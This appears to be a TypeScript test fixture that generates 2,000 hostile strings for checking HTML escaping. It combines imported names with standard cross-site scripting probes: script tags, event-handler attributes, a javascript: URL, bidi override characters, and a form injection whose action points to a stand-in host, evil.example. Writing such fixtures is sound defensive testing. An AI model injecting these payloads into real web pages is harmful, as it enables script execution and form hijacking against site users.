// Texts that try to be a part of a page: an element, an attribute, a link, a comment, or another direction of writing.
import { hostileNames } from './hostile-names.ts';

const payloads = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '` onfocus=`alert(1)',
  '</textarea><script>alert(1)</script>',
  '</title></style><svg/onload=alert(1)>',
  '<!-- ]]> -->',
  '&lt;script&gt;&#60;script>',
  'javascript:alert(1)',
  '</option></select></fieldset></form><form action=//evil.example>',
  '\u202e<b>\u2069',
  '{shelter}{url}{text}',
];

/** 2,000 of them, all different, none longer than 120 characters, and such as PostgreSQL stores. */
export const hostileMarkup: readonly string[] = [
  ...new Set(
    hostileNames.flatMap((name) => {
      const stored = [...name.toWellFormed().replaceAll('\0', ' ')].slice(0, 40).join('');
      return payloads.map((payload) => `${stored}${payload}`);
    }),
  ),
]
  .filter((_, i) => i % 2 === 0)
  .slice(0, 2_000);
